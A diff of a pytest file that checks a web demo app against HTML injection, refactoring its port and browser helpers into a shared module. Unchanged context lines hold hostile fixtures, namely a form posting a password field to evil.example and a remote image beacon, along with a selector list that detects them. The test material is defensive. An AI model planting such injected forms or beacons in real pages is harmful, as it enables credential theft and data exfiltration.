@@ -11,16 +11,14 @@ from __future__ import annotations
 import json
 import os
 import shutil
-import socket
 from pathlib import Path
 from urllib.parse import quote, urlparse
 
 import pytest
+from helpers import CHROMIUM, free_port
 
 os.environ.setdefault("HF_HUB_OFFLINE", "1")
 
-CHROMIUM = "/usr/bin/chromium"
-ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
 ROOT = Path(__file__).resolve().parent.parent
 POOL = "sentence-transformers__all-MiniLM-L6-v2"
 
@@ -39,12 +37,6 @@ SUBSET = '<form action="https://evil.example/subset"><b>bold</b><input name="pas
 COLUMN = '<img src="https://evil.example/c.png">'
 # What must never appear in the DOM: the attacker's elements (SVG <a> in plots use xlink:href).
 INJECTED = '[action*="evil.example"], [src*="evil.example"], [*|href*="evil.example"], input[name="password"]'
-
-
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
 
 
 @pytest.fixture(scope="module")
@@ -74,22 +66,13 @@ def app_url(hostile_assets):
 
     previous = os.environ.get("HFSELECT_ASSETS_DIR")
     os.environ["HFSELECT_ASSETS_DIR"] = str(hostile_assets)
-    app.demo.launch(prevent_thread_lock=True, server_port=_free_port(), quiet=True)
+    app.demo.launch(prevent_thread_lock=True, server_port=free_port(), quiet=True)
     yield app.demo.local_url.rstrip("/") + "/"
     app.demo.close()
     if previous is None:
         os.environ.pop("HFSELECT_ASSETS_DIR", None)
     else:
         os.environ["HFSELECT_ASSETS_DIR"] = previous
-
-
-@pytest.fixture(scope="module")
-def browser():
-    sync_api = pytest.importorskip("playwright.sync_api")
-    with sync_api.sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
-        yield browser
-        browser.close()
 
 
 @pytest.fixture
